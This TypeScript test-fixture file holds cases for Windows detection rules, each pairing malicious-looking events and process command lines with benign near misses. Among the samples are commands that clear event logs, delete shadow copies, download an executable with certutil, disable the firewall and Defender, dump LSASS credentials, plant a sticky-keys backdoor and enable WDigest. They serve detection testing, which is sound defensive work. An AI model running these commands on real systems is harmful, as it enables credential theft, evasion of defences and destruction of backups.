import { events, process4688, securityEvent, windowsProcess } from '../inputs.ts';
import type { RuleCase } from './types.ts';

const SYS32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`;

function groupChange(memberSid: string, groupSid: string, group: string): string {
  return events(
    securityEvent(4732, {
      MemberName: '-',
      MemberSid: memberSid,
      TargetUserName: group,
      TargetDomainName: 'Builtin',
      TargetSid: groupSid,
      SubjectUserSid: 'S-1-5-21-1-1105',
      SubjectUserName: 'mallory',
      SubjectDomainName: 'WIN-01',
      SubjectLogonId: '0x3e7',
    }),
  );
}

function accountCreated(name: string): string {
  return events(
    securityEvent(4720, {
      TargetUserName: name,
      TargetDomainName: 'WIN-01',
      TargetSid: 'S-1-5-21-1-1110',
      SubjectUserSid: 'S-1-5-21-1-1105',
      SubjectUserName: 'mallory',
      SubjectDomainName: 'WIN-01',
    }),
  );
}

/** Windows process starts (Sysmon event 1 and Security event 4688) and Security events. */
export const WINDOWS_CASES: RuleCase[] = [
  {
    rule: 'windows/security-log-cleared.yml',
    fires: [
      events(
        securityEvent(1102, {
          SubjectUserSid: 'S-1-5-21-1-500',
          SubjectUserName: 'mallory',
          SubjectDomainName: 'WIN-01',
          SubjectLogonId: '0x3e7',
        }),
      ),
    ],
    misses: [
      {
        why: 'another Security event',
        input: events(securityEvent(4634, { TargetUserName: 'alice', LogonType: '3' })),
      },
    ],
  },
  {
    rule: 'windows/event-log-cleared-command.yml',
    fires: [
      windowsProcess(`${SYS32}wevtutil.exe`, 'wevtutil cl Security'),
      process4688(`${SYS32}wevtutil.exe`, 'wevtutil.exe cl System'),
      windowsProcess(POWERSHELL, 'powershell -c "Clear-EventLog -LogName Application"'),
    ],
    misses: [
      {
        why: 'exporting a log',
        input: windowsProcess(`${SYS32}wevtutil.exe`, 'wevtutil epl Security C:\\backup\\sec.evtx'),
      },
    ],
  },
  {
    rule: 'windows/shadow-copy-deletion.yml',
    fires: [
      windowsProcess(`${SYS32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet'),
      process4688(`${SYS32}wbem\\WMIC.exe`, 'wmic shadowcopy delete'),
    ],
    misses: [
      {
        why: 'listing shadow copies',
        input: windowsProcess(`${SYS32}vssadmin.exe`, 'vssadmin list shadows'),
      },
    ],
  },
  {
    rule: 'windows/certutil-download.yml',
    fires: [
      process4688(
        `${SYS32}certutil.exe`,
        'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe',
      ),
      windowsProcess(`${SYS32}certutil.exe`, 'certutil /urlcache /f https://203.0.113.5/b.txt b.txt'),
    ],
    misses: [
      {
        why: 'hashing a file',
        input: windowsProcess(`${SYS32}certutil.exe`, 'certutil -hashfile C:\\tools\\a.exe SHA256'),
      },
    ],
  },
  {
    rule: 'windows/certutil-decode.yml',
    fires: [
      windowsProcess(
        `${SYS32}certutil.exe`,
        'certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.exe',
      ),
    ],
    misses: [
      {
        why: 'encoding a file',
        input: windowsProcess(`${SYS32}certutil.exe`, 'certutil -encode a.exe a.b64'),
      },
    ],
  },
  {
    rule: 'windows/encoded-executable.yml',
    fires: [
      windowsProcess(
        POWERSHELL,
        "powershell -c \"[IO.File]::WriteAllBytes('a.exe',[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAA'))\"",
      ),
    ],
    misses: [
      {
        why: 'base64 text that is not an executable',
        input: windowsProcess(
          POWERSHELL,
          'powershell -c "[Convert]::FromBase64String(\'SGVsbG8gd29ybGQ=\')"',
        ),
      },
    ],
  },
  {
    rule: 'windows/encoded-powershell.yml',
    fires: [
      windowsProcess(
        POWERSHELL,
        'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
      ),
      process4688(POWERSHELL, 'powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='),
    ],
    misses: [
      {
        why: 'a script file with the execution policy bypassed',
        input: windowsProcess(
          POWERSHELL,
          'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1',
        ),
      },
    ],
  },
  {
    rule: 'windows/firewall-disabled.yml',
    fires: [
      windowsProcess(`${SYS32}netsh.exe`, 'netsh advfirewall set allprofiles state off'),
      windowsProcess(
        POWERSHELL,
        'powershell Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False',
      ),
    ],
    misses: [
      {
        why: 'turning it on',
        input: windowsProcess(`${SYS32}netsh.exe`, 'netsh advfirewall set allprofiles state on'),
      },
    ],
  },
  {
    rule: 'windows/account-created.yml',
    fires: [accountCreated('svc-backup')],
    misses: [
      { why: 'an account deleted', input: events(securityEvent(4726, { TargetUserName: 'svc-backup' })) },
    ],
  },
  {
    rule: 'windows/suspicious-account-created.yml',
    fires: [accountCreated('Adm1nistrator'), accountCreated('helpdesk$')],
    misses: [
      { why: 'an ordinary name', input: accountCreated('jsmith') },
      { why: 'the built-in name itself', input: accountCreated('Administrator') },
    ],
  },
  {
    rule: 'windows/guest-added-to-administrators.yml',
    fires: [groupChange('S-1-5-21-1-501', 'S-1-5-32-544', 'Administrators')],
    misses: [
      {
        why: 'another account added',
        input: groupChange('S-1-5-21-1-1105', 'S-1-5-32-544', 'Administrators'),
      },
    ],
  },
  {
    rule: 'windows/user-added-to-administrators.yml',
    fires: [groupChange('S-1-5-21-1-1105', 'S-1-5-32-544', 'Administrators')],
    misses: [
      {
        why: 'added to Remote Desktop Users',
        input: groupChange('S-1-5-21-1-1105', 'S-1-5-32-555', 'Remote Desktop Users'),
      },
    ],
  },
  {
    rule: 'windows/critical-services-disabled.yml',
    fires: [
      windowsProcess(`${SYS32}sc.exe`, 'sc config WinDefend start= disabled'),
      process4688(`${SYS32}net.exe`, 'net stop MpsSvc'),
    ],
    misses: [{ why: 'querying a service', input: windowsProcess(`${SYS32}sc.exe`, 'sc query WinDefend') }],
  },
  {
    rule: 'windows/credential-dumping.yml',
    fires: [
      windowsProcess(
        `${SYS32}rundll32.exe`,
        `rundll32.exe ${SYS32}comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full`,
      ),
      windowsProcess('C:\\tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp'),
    ],
    misses: [
      {
        why: 'dumping a web worker process',
        input: windowsProcess('C:\\tools\\procdump.exe', 'procdump.exe -ma w3wp.exe'),
      },
    ],
  },
  {
    rule: 'windows/sticky-keys.yml',
    fires: [
      windowsProcess(
        `${SYS32}reg.exe`,
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe"',
      ),
      windowsProcess(`${SYS32}cmd.exe`, `cmd /c copy /y ${SYS32}cmd.exe ${SYS32}utilman.exe`),
    ],
    misses: [
      {
        why: 'a debugger for an ordinary program',
        input: windowsProcess(
          `${SYS32}reg.exe`,
          'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\app.exe" /v Debugger /d "vsjitdebugger.exe"',
        ),
      },
    ],
  },
  {
    rule: 'windows/wdigest-enabled.yml',
    fires: [
      windowsProcess(
        `${SYS32}reg.exe`,
        'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
      ),
    ],
    misses: [
      {
        why: 'WDigest credential caching turned off',
        input: windowsProcess(
          `${SYS32}reg.exe`,
          'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f',
        ),
      },
    ],
  },
  {
    rule: 'windows/double-extension.yml',
    fires: [
      windowsProcess(
        'C:\\Users\\alice\\Downloads\\invoice.pdf.exe',
        '"C:\\Users\\alice\\Downloads\\invoice.pdf.exe"',
      ),
    ],
    misses: [
      {
        why: 'an ordinary program',
        input: windowsProcess('C:\\Program Files\\App\\app.exe', '"C:\\Program Files\\App\\app.exe"'),
      },
    ],
  },
  {
    rule: 'windows/crypto-miner.yml',
    fires: [
      process4688(
        'c:\\diagnostics\\usertmp\\suchost.exe',
        '.\\suchost.exe   -a cryptonight -o bcn -u bond007.01 -p x -t 4',
      ),
      windowsProcess('C:\\Users\\alice\\AppData\\Local\\xmrig.exe', 'xmrig.exe -o pool.example.net:443'),
    ],
    misses: [
      {
        why: 'a process named after mining data',
        input: windowsProcess(
          'C:\\Program Files\\Analytics\\datamining.exe',
          'datamining.exe --algorithm kmeans',
        ),
      },
    ],
  },
  {
    rule: 'windows/suspicious-path-execution.yml',
    fires: [
      process4688('c:\\windows\\fonts\\csrss.exe', 'c:\\windows\\fonts\\csrss.exe'),
      windowsProcess('C:\\Users\\Public\\svchost.exe', 'C:\\Users\\Public\\svchost.exe -k netsvcs'),
    ],
    misses: [
      {
        why: 'the real csrss.exe',
        input: windowsProcess(`${SYS32}csrss.exe`, 'csrss.exe ObjectDirectory=\\Windows'),
      },
      {
        why: 'a font file opened by a program in System32',
        input: windowsProcess(`${SYS32}fontview.exe`, 'fontview.exe C:\\Windows\\Fonts\\arial.ttf'),
      },
    ],
  },
];
